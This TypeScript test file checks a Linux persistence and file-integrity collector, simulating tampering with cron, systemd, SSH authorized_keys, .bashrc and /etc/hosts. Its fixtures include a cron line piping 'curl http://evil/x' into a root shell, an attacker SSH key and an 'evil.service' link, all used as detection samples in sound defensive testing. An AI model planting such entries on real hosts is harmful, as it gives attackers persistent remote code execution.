import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { chmod, rm } from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import { defaultPolicy } from '../policy.ts';
import { FixtureTree } from '../test-support/fixture-tree.ts';
import { FileIntegrityCollector } from './file-integrity-collector.ts';
import { expandGlob } from './path-glob.ts';
import { PersistenceCollector } from './persistence-collector.ts';
import { UserResolver } from './user-resolver.ts';

const sha = (s: string) => `SHA256=${createHash('sha256').update(s).digest('hex').toUpperCase()}`;

describe('persistence and file integrity', () => {
  let t: FixtureTree;
  before(async () => {
    t = await FixtureTree.create();
    await t.write('etc/passwd', 'root:x:0:0::/root:/bin/sh\n');
    await t.write('etc/crontab', '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n');
    await t.write('etc/cron.d/backup', '0 3 * * * root /usr/local/bin/backup\n');
    await t.write('etc/systemd/system/multi-user.target.wants/.keep', '');
    await t.write('etc/systemd/system/app.service', '[Service]\nExecStart=/usr/bin/app\n');
    await t.write('home/alice/.bashrc', 'alias ll="ls -l"\n');
    await t.write('etc/hosts', '127.0.0.1 localhost\n');
    await t.write('etc/ssh/sshd_config', 'PermitRootLogin no\n');
  });
  after(() => t.cleanup());

  it('expands *, ? and ** globs below the root', async () => {
    assert.deepEqual(await expandGlob(t.root, '/etc/cron.d/*'), ['/etc/cron.d/backup']);
    assert.deepEqual(await expandGlob(t.root, '/home/*/.bash?c'), ['/home/alice/.bashrc']);
    assert.deepEqual(await expandGlob(t.root, '/etc/systemd/system/**/*'), [
      '/etc/systemd/system/app.service',
      '/etc/systemd/system/multi-user.target.wants/.keep',
    ]);
    assert.deepEqual(await expandGlob(t.root, '/nonexistent/*'), []);
  });

  it('reports created, modified, metadata and deleted persistence files after a silent baseline', async () => {
    const c = new PersistenceCollector(t.root, new UserResolver(t.root));
    const ctx = { now: new Date(), policy: defaultPolicy() };
    assert.deepEqual(await c.collect(ctx), []);

    await t.write('home/alice/.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker\n');
    await t.write('etc/cron.d/backup', '* * * * * root curl http://evil/x | sh\n');
    await t.link(
      'etc/systemd/system/multi-user.target.wants/evil.service',
      '/etc/systemd/system/evil.service',
    );
    await chmod(t.path('etc/crontab'), 0o666);
    await rm(t.path('home/alice/.bashrc'));
    const events = await c.collect(ctx);
    const summary = events.map((e) => [
      e.fields['TargetFilename'],
      e.fields['ChangeType'],
      e.fields['PersistenceType'],
    ]);
    assert.deepEqual(summary, [
      ['/etc/cron.d/backup', 'modified', 'cron'],
      ['/etc/crontab', 'metadata', 'cron'],
      ['/etc/systemd/system/multi-user.target.wants/evil.service', 'created', 'systemd'],
      ['/home/alice/.ssh/authorized_keys', 'created', 'authorized_keys'],
      ['/home/alice/.bashrc', 'deleted', 'shell_profile'],
    ]);
    const keys = events.find((e) => e.fields['PersistenceType'] === 'authorized_keys')!;
    assert.equal(keys.type, 'persistence');
    assert.deepEqual(keys.logsource, { product: 'linux', category: 'file_event' });
    assert.equal(keys.fields['Hashes'], sha('ssh-ed25519 AAAA attacker\n'));
    assert.equal(keys.severity, 'medium');
    const cron = events[0]!;
    assert.equal(cron.fields['Hashes'], sha('* * * * * root curl http://evil/x | sh\n'));
    assert.equal(cron.fields['PreviousHashes'], sha('0 3 * * * root /usr/local/bin/backup\n'));
    assert.equal(events[1]!.fields['FileMode'], '0666');
    assert.equal(events[2]!.fields['LinkTarget'], '/etc/systemd/system/evil.service');

    // Saved baseline: a restarted collector sees no change.
    const restarted = new PersistenceCollector(t.root, new UserResolver(t.root));
    restarted.importState(JSON.parse(JSON.stringify(c.exportState())));
    assert.deepEqual(await restarted.collect(ctx), []);
  });

  it('watches the policy paths for file integrity', async () => {
    const c = new FileIntegrityCollector(t.root, new UserResolver(t.root));
    const policy = { ...defaultPolicy(), fimPaths: ['/etc/hosts', '/etc/ssh/*'] };
    await c.collect({ now: new Date(), policy });
    await t.write('etc/hosts', '127.0.0.1 localhost\n10.6.6.6 bank.example\n');
    const events = await c.collect({ now: new Date(), policy });
    assert.deepEqual(
      events.map((e) => [e.type, e.fields['TargetFilename'], e.fields['ChangeType']]),
      [['file_change', '/etc/hosts', 'modified']],
    );
  });
});
